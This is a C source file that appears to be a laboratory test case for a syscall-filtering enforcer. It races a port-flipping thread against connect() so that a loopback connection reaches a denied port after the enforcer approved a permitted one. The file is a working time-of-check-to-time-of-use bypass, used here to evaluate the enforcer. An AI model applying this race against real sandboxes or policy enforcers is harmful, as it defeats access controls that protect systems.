// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: the address that the kernel connects to is the address that was
 * judged, although a second thread changes the port (catalogue A8).
 *
 *	caller			flipper			enforcer
 *	connect(address) ----------------------------->	reads: permitted port
 *				port := denied
 *	kernel copies address <-----------------------	lets the call through
 *				port := permitted
 *
 * Only loopback ports that the laboratory listens on are tried. A win is a
 * connection to the denied port; its listener accepts it.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sys/socket.h>

static struct sockaddr_in address;
static in_port_t ports[2];
static _Atomic unsigned int turns;
static _Atomic bool stop;

static void *flipper(void *unused)
{
	volatile in_port_t *port = &address.sin_port;

	(void)unused;
	for (unsigned int turn = 1; !atomic_load(&stop); turn++) {
		*port = ports[turn & 1];
		atomic_store(&turns, turn);
		spin(flip_pause(turn));
	}
	return NULL;
}

static void set(int fd, int level, int name, int value)
{
	struct linger reset = { .l_onoff = 1 };

	if (name == SO_LINGER && level == SOL_SOCKET)
		setsockopt(fd, level, name, &reset, sizeof(reset));
	else
		setsockopt(fd, level, name, &value, sizeof(value));
}

/*
 * The port that was reached, in network order; 0 and errno when none was. The
 * last acknowledgement is held back until we know who answered, for a listener
 * that accepts and resets would be gone by then; only `wanted` gets it.
 */
static in_port_t reach(in_port_t wanted)
{
	struct sockaddr_in peer = { 0 };
	socklen_t size = sizeof(peer);
	int fd = (int)syscall(SYS_socket, JUNK(AF_INET), JUNK(SOCK_STREAM), JUNK(0));
	int error;

	if (fd < 0)
		broken("socket: %s", strerror(errno));
	set(fd, SOL_SOCKET, SO_LINGER, 0);
	set(fd, IPPROTO_TCP, TCP_QUICKACK, 0);
	if (syscall(SYS_connect, JUNK(fd), &address, JUNK(sizeof(address))) ||
	    getpeername(fd, (struct sockaddr *)&peer, &size))
		peer.sin_port = 0;
	else if (peer.sin_port == wanted)
		set(fd, IPPROTO_TCP, TCP_QUICKACK, 1);
	error = errno;
	close(fd);
	errno = error;
	return peer.sin_port;
}

static void race(struct run *run, int first, int second)
{
	pthread_t thread;

	ports[0] = htons(first);
	ports[1] = htons(second);
	address.sin_port = ports[0];
	if (pthread_create(&thread, NULL, flipper, NULL))
		broken("no second thread");
	while (race_next(run, &turns)) {
		in_port_t port = reach(ports[1]);

		if (!port)
			run->error = errno;
		else if (port == ports[1])
			run->wins++;
	}
	atomic_store(&stop, true);
	pthread_join(thread, NULL);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	address.sin_family = AF_INET;
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	switch (run.mode) {
	case MODE_BENIGN:
		run.limit = BENIGN_ROUNDS;
		race(&run, run.allowed_port, run.allowed_port);
		break;
	case MODE_DIRECT:
		run.attempts = 1;
		address.sin_port = htons(run.port);
		run_result(&run, reach(address.sin_port) ? 0 : -1);
		break;
	case MODE_ATTACK:
		race(&run, run.allowed_port, run.port);
		break;
	}
	run_end(&run);
}
